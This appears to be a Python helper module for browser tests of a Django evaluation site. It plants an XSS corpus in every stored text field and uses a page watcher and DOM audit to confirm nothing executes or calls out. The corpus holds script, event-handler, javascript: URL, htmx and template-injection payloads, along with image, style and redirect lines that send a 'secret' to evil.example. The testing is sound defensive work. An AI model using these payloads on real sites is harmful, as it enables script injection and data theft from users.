"""Shared helpers for the browser tests: Chromium and its PageWatch, the XSS corpus, a hostile
run, a DOM audit, and the real server started as the README starts it.

Every payload in the corpus tries two things if it ever runs: ``window.__xss = 1`` and an
``alert`` (a dialog the :class:`PageWatch` records). Payloads that
would fetch something point at ``evil.example``, a host other than the server, so the
PageWatch records the request; ``hx-*`` payloads point at ``?xss=hx`` URLs so a request they
caused is recognisable even on the server's own origin.
"""

from __future__ import annotations

import datetime as dt
import json
import os
import re
import signal
import socket
import subprocess
import threading
import time
from pathlib import Path

import yaml

from tests.helpers.cli import cli_env

RUN_JS = "window.__xss=1;alert(document.domain)"

# Each item on its own; `corpus_text()` joins them. The first line is the marker the
# visible-text checks look for, so it must survive truncation (it is short and comes first).
MARKER = "<script>window.__xss=1;alert('xss-script')</script>"
CORPUS: tuple[str, ...] = (
    MARKER,
    f'<img src=x onerror="{RUN_JS}">',
    f'<a href="javascript:{RUN_JS}">javascript-link</a>',
    f'"><svg onload="{RUN_JS}">',
    f"'><svg/onload={RUN_JS}>",
    f'" data-xss-breakout="1" autofocus onfocus="{RUN_JS}" x="',
    f"' data-xss-breakout='1' autofocus onfocus='{RUN_JS}' x='",
    f"</pre></textarea></title></code></option></select><script>{RUN_JS}</script>",
    "{{ 7*7 }} {% debug %} {{ request.user.password }} {% csrf_token %}",
    "![x](http://evil.example/?q=secret)",
    "[click me](javascript:window.__xss=1)",
    '<div hx-get="/admin/?xss=hx" hx-trigger="load" hx-target="body">hx-get="/admin/"</div>',
    '<form hx-post="/logout/?xss=hx" hx-trigger="load"><button>hx-post</button></form>',
    '<iframe src="javascript:window.__xss=1"></iframe>',
    '<img src="http://evil.example/pixel.gif?q=secret">',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base href="http://evil.example/">',
    "<style>body{background:url(http://evil.example/bg.png)}</style>",
    '<object data="http://evil.example/x.swf"></object>',
    '<svg><a xlink:href="javascript:window.__xss=1"><text>svg-link</text></a></svg>',
    "<details open ontoggle=\"window.__xss=1;alert('toggle')\">",
)
# `{{ … }}` that is not a placeholder is an error in a prompt template: prompts get the
# corpus without it (the case vars carry it into the rendered prompt instead).
PROMPT_CORPUS = tuple(item for item in CORPUS if "{{" not in item)
# Short enough for a run label (64 characters).
SHORT = "\"><svg onload=window.__xss=1;alert('label')>"
# What a stored hx-* payload looks like if it ever became an attribute or a request.
HX_MARK = "xss=hx"


CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]


class PageWatch:
    """Collects what must never happen on a page: dialogs, CSP violations, foreign requests."""

    def __init__(self, page, origin: str):
        self.problems: list[str] = []
        page.on("dialog", self._dialog)
        page.on("console", self._console)
        page.on("request", lambda request: self._request(request, origin))

    def _dialog(self, dialog):
        self.problems.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def _console(self, message):
        if "Content Security Policy" in message.text or message.type == "error":
            self.problems.append(f"console {message.type}: {message.text}")

    def _request(self, request, origin: str):
        if not request.url.startswith((origin, "data:", "about:")):
            self.problems.append(f"request to {request.url}")


def corpus_text(items: tuple[str, ...] = CORPUS) -> str:
    return "\n".join(items)


SUITE_NAME = "xss-corpus"
BASE, CAND, JUDGE = "scripted/base", "scripted/cand", "scripted/judge"


def hostile_suite_text() -> str:
    """A suite with plain ids and hostile text everywhere else a suite can hold text."""
    corpus, prompt_corpus = corpus_text(), corpus_text(PROMPT_CORPUS)
    # Rubrics are templates like prompts (case vars render in them, docs/checks.md): the
    # whole corpus reaches each rubric through the case's var, and the rest of it as text.
    rubric = "Judge the answer to: {{question}}\n" + prompt_corpus
    suite = {
        "suite": SUITE_NAME,
        "version": 1,
        "description": corpus,
        "models": [BASE, CAND],
        "judge": {
            "model": JUDGE,
            "rubric": rubric,
            "calibration": {"min_kappa": 0.4, "min_labels": 10},
        },
        "tasks": [
            {
                "id": "chat",
                "kind": "rewrite",
                "system": prompt_corpus,
                "prompt": "Answer this: {{question}}\n" + prompt_corpus,
                "rubric": rubric,
                "checks": [{"contains": MARKER + " is never in an answer"}],
                "grade": {"rubric": rubric, "threshold": 0.5},
                "cases": [
                    {"id": "judged", "vars": {"question": corpus}},
                    {"id": "unreadable", "vars": {"question": corpus}},
                    {"id": "errored", "vars": {"question": corpus}},
                ],
            },
            {
                "id": "shaped",
                "prompt": "Return JSON for {{question}}",
                "schema": {
                    "type": "object",
                    "required": ["text"],
                    "properties": {"text": {"enum": ["ok"]}},
                },
                "cases": [{"id": "schema", "vars": {"question": corpus}}],
            },
        ],
        "labels": [
            {
                "task": "chat",
                "case": "judged",
                "baseline": BASE,
                "candidate": CAND,
                "prefer": "candidate",
                "note": corpus,
            }
        ],
    }
    return yaml.safe_dump(suite, sort_keys=False, allow_unicode=True, width=10_000)


def hostile_replies() -> dict:
    corpus = corpus_text()
    verdict = json.dumps({"reason": corpus, "winner": "1"})
    grade = json.dumps({"reasoning": corpus, "score": 4})
    return {
        "base": {
            "chat/judged": [corpus],
            "chat/unreadable": [corpus],
            "chat/errored": [corpus],
            "shaped/schema": ['{"text": "ok"}'],
        },
        "cand": {
            "chat/judged": [corpus],
            "chat/unreadable": [corpus],
            "chat/errored": [{"error": MARKER + "\n" + corpus}],
            # the schema error message quotes the hostile value
            "shaped/schema": [json.dumps({"text": corpus})],
        },
        "judge": {
            # "Answer 1" in both orders: a flip, so `?flips=1` lists it
            "judge/chat/judged": [verdict, verdict],
            # no JSON at all: unreadable, retried once, then the pair is excluded
            "judge/chat/unreadable": [corpus],
            "judge/chat/errored": [verdict],
            "judge/shaped/schema": [verdict],
            "grade/chat/judged": [grade],
            "grade/chat/unreadable": [grade],
            "grade/chat/errored": [grade],
        },
    }


def make_hostile_run(tmp_path: Path, user=None):
    """The hostile suite registered and run to the end with scripted replies; a Decision on
    it whose reasoning is the corpus. Returns the finished Run."""
    from decimal import Decimal

    from evalsite.core.suites import parse_suite
    from runs.models import Decision, Price, PriceTable, SuiteVersion
    from runs.planning.planner import RunOptions, make_plan, store_plan

    PriceTable.objects.ensure_default()
    table = PriceTable.objects.create(
        name=SHORT,
        pinned=dt.date(2026, 1, 1),
        notes=corpus_text(),
        source="javascript:window.__xss=1",
    )
    Price.objects.create(
        table=table,
        model="acme/model-x",
        input_per_mtok=Decimal("1"),
        output_per_mtok=Decimal("2"),
        source_url=f"javascript:{RUN_JS}",
    )
    table.mark_active()

    replies = tmp_path / "replies.yaml"
    replies.write_text(yaml.safe_dump(hostile_replies(), allow_unicode=True, width=10_000))
    text = hostile_suite_text()
    loaded = parse_suite(text.encode(), filename=f"{SUITE_NAME}.yaml", origin="upload")
    version, _ = SuiteVersion.objects.register(loaded, text, origin="upload", user=user)
    options = RunOptions(replies=str(replies), label=SHORT)
    run = store_plan(make_plan(version, loaded, options), user=user)
    run = execute_in_thread(run.id)
    Decision.objects.create(
        run=run, decided_by=user, verdict=Decision.Verdict.KEEP, reasoning=corpus_text()
    )
    return run


def execute_in_thread(run_id: str, timeout: float = 60):
    """``runs.engine.runner.execute`` in its own thread: it runs an asyncio loop, and Playwright's
    sync API already runs one in the test's thread."""
    from runs.engine.runner import execute

    outcome: list = []

    def target() -> None:
        try:
            outcome.append(execute(run_id))
        except BaseException as error:  # noqa: BLE001 - re-raised in the test's thread
            outcome.append(error)
        finally:
            from django.db import connection

            connection.close()

    thread = threading.Thread(target=target, daemon=True, name=f"run-{run_id}")
    thread.start()
    thread.join(timeout)
    assert not thread.is_alive(), f"runner.execute did not return within {timeout:g}s"
    if isinstance(outcome[0], BaseException):
        raise outcome[0]
    return outcome[0]


# --- auditing a page -------------------------------------------------------------------------

# Runs in the page: everything a payload would leave behind if it had become markup.
AUDIT_JS = r"""
(hx) => {
  const found = [];
  const describe = (el) => el.outerHTML.slice(0, 160);
  const scheme = (v) => (v || '').replace(/[\u0000-\u0020]/g, '').toLowerCase();
  for (const el of document.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      const value = attr.value;
      if (name.startsWith('on')) found.push(`event handler ${name}: ${describe(el)}`);
      if (name === 'data-xss-breakout') found.push(`attribute breakout: ${describe(el)}`);
      if (['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'srcdoc'].includes(name)
          && scheme(value).startsWith('javascript:'))
        found.push(`javascript: URL in ${name}: ${describe(el)}`);
      if (/^(data-)?hx-/.test(name) && (value.includes(hx) || value.includes('/admin/')
          || value.includes('/logout/') || value === 'load'))
        found.push(`hostile htmx attribute ${name}="${value}": ${describe(el)}`);
      if (value.includes('evil.example')) found.push(`evil.example in ${name}: ${describe(el)}`);
    }
  }
  // the app's own scripts are files under /static/; nothing inline, nothing else
  for (const el of document.querySelectorAll('script')) {
    const src = el.getAttribute('src') || '';
    if (!src.startsWith('/static/') || el.textContent.trim())
      found.push(`script element: ${describe(el)}`);
  }
  const scripts = [...document.querySelectorAll('script')].map(el => [el.getAttribute('src'), el.nonce]);
  for (const sel of ['iframe', 'object', 'embed', 'base', 'meta[http-equiv="refresh" i]', 'body meta',
                     'link[href*="evil"]', 'body style', 'body link', 'img[src="x"]', 'math',
                     'details[ontoggle]'])
    for (const el of document.querySelectorAll(sel)) found.push(`injected ${sel}: ${describe(el)}`);
  return {found, scripts, xss: typeof window.__xss, csp: window.__csp || []};
}
"""

# Installed before any page script: records CSP violations the console might not show.
CSP_LISTENER = (
    "window.__csp = [];"
    "document.addEventListener('securitypolicyviolation', "
    "e => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI), true);"
)


def settle(page) -> None:
    """Wait, after a page's load event (``goto`` waits for it), until htmx has no request in
    flight and no swap settling. The pages request nothing else after loading (no lazy or
    polling part on a finished run), so this is what ``networkidle`` waited for without its
    half-second of quiet on every page. The XSS audit keeps ``networkidle``: it must also see
    a request a payload would make late."""
    page.wait_for_function(
        "() => !document.querySelector('.htmx-request, .htmx-settling, .htmx-swapping')"
    )


def log_in(page, origin: str, username: str, password: str, *, open_form: bool = True) -> None:
    """Sign in through the login form (opened afresh, with no cookies, unless it is already
    the page) and wait for the dashboard."""
    if open_form:
        page.context.clear_cookies()
        page.goto(f"{origin}/login/")
    page.fill("#id_username", username)
    page.fill("#id_password", password)
    page.click("button[type=submit]")
    page.wait_for_url(f"{origin}/")


def visible_text(page) -> str:
    """The page's rendered text with every <details> opened (collapsed text is not shown)."""
    return page.evaluate(
        "() => { document.querySelectorAll('details').forEach(d => d.open = true);"
        " return document.body.innerText; }"
    )


# --- the real server, started the way the README starts it ------------------------------------

ROOT = Path(__file__).resolve().parents[2]
EVALSITE = ROOT / ".venv" / "bin" / "evalsite"


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def server_env(data_dir: Path) -> dict[str, str]:
    """The environment of `evalsite` on the embedded default: SQLite in `data_dir`."""
    env = cli_env(data_dir)
    env.pop("DJANGO_ALLOW_ASYNC_UNSAFE", None)
    return env


def group_alive(pgid: int) -> bool:
    try:
        os.killpg(pgid, 0)
    except ProcessLookupError:
        return False
    return True


class Served:
    """`evalsite serve --port N` in its own process group. Its output is read on a thread
    (so a chatty worker never fills the pipe) and kept in ``lines``."""

    def __init__(self, data_dir: Path):
        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        self.lines: list[str] = []
        self._printed = threading.Condition()
        self.process = subprocess.Popen(
            [str(EVALSITE), "serve", "--port", str(self.port)],
            cwd=ROOT,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
            env=server_env(data_dir),
            start_new_session=True,
        )
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def _read(self) -> None:
        for line in self.process.stdout:
            with self._printed:
                self.lines.append(line)
                self._printed.notify_all()
        with self._printed:
            self._printed.notify_all()

    @property
    def output(self) -> str:
        return "".join(self.lines)

    def wait_for(self, pattern: str, timeout: float = 60) -> re.Match:
        deadline = time.monotonic() + timeout
        with self._printed:
            while True:
                found = re.search(pattern, self.output)
                if found:
                    return found
                left = deadline - time.monotonic()
                if left <= 0 or (self.process.poll() is not None and not self._reader.is_alive()):
                    raise AssertionError(f"serve never printed {pattern!r}; got:\n{self.output}")
                self._printed.wait(min(left, 0.5))

    def interrupt(self, timeout: float = 40) -> int:
        """Ctrl-C, as in a terminal: SIGINT to the whole group. The exit status."""
        os.killpg(self.process.pid, signal.SIGINT)
        return self.process.wait(timeout=timeout)

    def kill(self) -> None:
        """Whatever is left of the group (serve and its worker), at once."""
        if group_alive(self.process.pid):
            os.killpg(self.process.pid, signal.SIGKILL)
        self.process.wait(timeout=10)
